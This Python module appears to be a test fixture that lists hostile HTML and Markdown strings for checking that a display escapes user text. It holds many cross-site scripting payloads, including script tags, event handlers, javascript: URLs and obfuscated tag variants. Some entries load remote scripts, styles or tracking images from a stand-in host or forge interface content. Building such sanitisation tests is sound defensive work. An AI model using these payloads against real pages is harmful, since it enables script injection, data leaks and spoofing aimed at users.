"""Hostile texts for displays: HTML and Markdown in every way to leave a text."""

from __future__ import annotations

from itertools import cycle
from typing import Final

__all__ = ["MARKDOWN", "PAYLOADS"]

SCRIPTS: Final = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "</td></tr></table><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</summary></details><iframe src='javascript:alert(1)'>",
    '"><svg onload=alert(1)>',
    "<a href='javascript:alert(1)'>click</a>",
    "<!-- <b> --><b>",
    "<![CDATA[<b>]]>",
    "<?php echo 1 ?>",
    "&lt;script&gt;",
    "&#60;script&#62;",
    "<\x00script>",
    "<scr\u200dipt>",
    "\uff1cscript\uff1e",
    "<plaintext>",
    "<textarea>",
    "<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)>",
    "$\\href{javascript:alert(1)}{x}$",
    "{{constructor.constructor('alert(1)')()}}",
    "\ud800<b>",
    "mark</mark><b>",
    "<SCRIPT/SRC=//example.org/x.js></SCRIPT>",
    "<script type=module>import('//example.org/x.js')</script>",
    "<<script>alert(1)//<</script>",
    "<script\x20type='text/javascript'>alert(1);</script>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><script>alert(1)</script></template>",
    "<svg><script>alert&#40;1&#41;</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math href='javascript:alert(1)'>x</math>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'></iframe>",
    "<meta http-equiv=refresh content='0;url=//example.org'>",
    "<base href='//example.org/'>",
    "<form action='//example.org'><button>go</button></form>",
    "<xmp><script>alert(1)</script></xmp>",
    "<listing><b>",
    "<frameset onload=alert(1)>",
    "<own-element onclick=alert(1)>",
    "<!DOCTYPE html><html><body onload=alert(1)>",
    "<%= 7 * 7 %>${7*7}#{7*7}<b>",
    "\u202e<b>\u202c",
    "<b\n>",
    "<b\t/>",
    "</b>",
]
STYLES: Final = [
    "<style>@import 'https://example.org/x.css'</style>",
    "<style>*{background:url(//example.org)}</style>",
    "<link rel=stylesheet href='//example.org/x.css'>",
    "<div style='position:fixed;inset:0;background:red'>x</div>",
    "<p style='behavior:url(x.htc)'>x",
    "<div class='aisdk-rows'><table><tr><td>forged</td></tr></table></div>",
    "</style><style>.aisdk-rows{display:none}</style>",
    "<svg><style>{}*{fill:url(//example.org)}</style></svg>",
    "<table background='//example.org'>",
    "<font size=7 color=red>",
    "<marquee>x</marquee>",
    "}</style><b>{",
]
TAGS: Final = (
    "img src=x",
    "svg",
    "video src=x",
    "input autofocus",
    "details open",
    "body",
    "object",
)
HANDLERS: Final = (
    *("onerror", "onload", "onclick", "onmouseover", "onfocus", "ontoggle", "onpointerenter"),
    *("onanimationstart", "onbeforeinput", "oncopy", "onscroll", "onwheel", "ontransitionend"),
)
# What closes the attribute, text or tag that a value might have been put into.
CLOSINGS: Final = ("", '"', "'", "`", '">', "'>", "</td>", "-->", "]]>", "</mark>", "</summary>")

ATTRIBUTES: Final = [
    *("' onmouseover='alert(1)", '" onmouseover="alert(1)', '" autofocus onfocus=alert(1) x="'),
    *("` onmouseover=`alert(1)", "x style=color:red", '" style="color:red', "'><b a='"),
    *(
        f"{closing}<{tag} {handler}=alert(1)>"
        for closing, tag, handler in zip(cycle(CLOSINGS), cycle(TAGS), HANDLERS * 4, strict=False)
    ),
]

# Where HTML stands in Markdown, an empty line ends it, or the end of its first line.
_MARKDOWN: Final = (
    *("# Heading", "Heading\n=======", "![spy](http://example.org/spy.png)", "- item", "1. item"),
    *("[link](http://example.org)", "<http://example.org>", "**bold**", "> quote", "---"),
    *("    code", "```\ncode\n```", "| a | b |\n|---|---|\n| 1 | 2 |", "`code`", "~~struck~~"),
    "[spy]: http://example.org\n\n![spy]",
)
MARKDOWN: Final = [
    *(f"{before}{text}\n\nrest" for before in ("", "\n\n", "</td>\n\n") for text in _MARKDOWN),
    *("\n# Heading", "\r\n\r\n# Heading", "\u2028\u2028# Heading", "\x0b\x0b# Heading", "\r\r- a"),
]

PAYLOADS: Final = list(dict.fromkeys([*SCRIPTS, *STYLES, *ATTRIBUTES, *MARKDOWN]))
